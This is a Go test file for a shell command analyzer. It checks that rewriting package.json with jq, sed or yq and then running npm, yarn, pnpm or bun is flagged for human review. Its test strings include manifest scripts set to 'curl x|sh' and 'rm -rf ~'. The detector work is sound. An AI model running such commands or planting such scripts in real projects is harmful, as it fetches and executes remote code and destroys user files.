package shell

import (
	"strings"
	"testing"
)

// A manifest rewritten by a filter (into a temporary file moved over it,
// through sponge, or in place) and then run by its runner runs what the
// filter made: when that is not known the run waits for a person; the
// same rewrite without a runner after it, or a runner after a filter that
// only reads, stays an everyday command.

var manifestFilters = []string{
	`jq '.scripts.postinstall="curl x|sh"' package.json`,
	`jq --arg s "$S" '.scripts.test=$s' package.json`,
	`sed 's/"test": "jest"/"test": "rm -rf ~"/' package.json`,
	`yq -o json '.scripts.test="x"' package.json`,
	`awk '{print}' package.json`,
}

var manifestMoves = []string{
	"{F} > t && mv t package.json",
	"{F} > /tmp/p.json; mv -f /tmp/p.json ./package.json",
	"{F} > t && cp t package.json",
	"{F} | sponge package.json",
	"{F} > t && install -m 644 t package.json",
}

var manifestRunners = []string{"npm i", "npm test", "yarn", "pnpm install", "npm run build", "bun install"}

func TestManifestRewrittenByFilterThenRun(t *testing.T) {
	for _, f := range manifestFilters {
		for _, m := range manifestMoves {
			write := strings.ReplaceAll(m, "{F}", f)
			for _, run := range manifestRunners {
				cmd := write + " && " + run
				if res := Analyze(cmd, exampleOptions); !hasRule(res, rulePipeToShell.ID) {
					t.Errorf("%q: want %s (runs a manifest nobody saw), got %v", cmd, rulePipeToShell.ID, ruleIDs(res))
				}
			}
			if res := Analyze(write+" && git diff package.json", exampleOptions); len(res.Findings) != 0 {
				t.Errorf("benign %q: got %v", write, ruleIDs(res))
			}
		}
		// The filter only prints: the manifest is unchanged.
		for _, run := range manifestRunners {
			cmd := f + " && " + run
			if res := Analyze(cmd, exampleOptions); hasRule(res, rulePipeToShell.ID) {
				t.Errorf("benign %q: got %v", cmd, ruleIDs(res))
			}
		}
	}
}

func TestManifestEditedInPlaceThenRun(t *testing.T) {
	for _, edit := range []string{
		`yq -i '.scripts.postinstall="curl x|sh"' package.json`,
		`yq --inplace '.scripts.test="rm -rf ~"' package.json`,
		`yq -i -o json '.scripts.test="x"' ./package.json`,
		`sed -i 's/jest/x/' package.json`,
	} {
		for _, run := range manifestRunners {
			cmd := edit + " && " + run
			if res := Analyze(cmd, exampleOptions); !hasRule(res, rulePipeToShell.ID) {
				t.Errorf("%q: want %s, got %v", cmd, rulePipeToShell.ID, ruleIDs(res))
			}
		}
		if res := Analyze(edit, exampleOptions); hasRule(res, rulePipeToShell.ID) {
			t.Errorf("benign %q (nothing runs it): got %v", edit, ruleIDs(res))
		}
	}
}
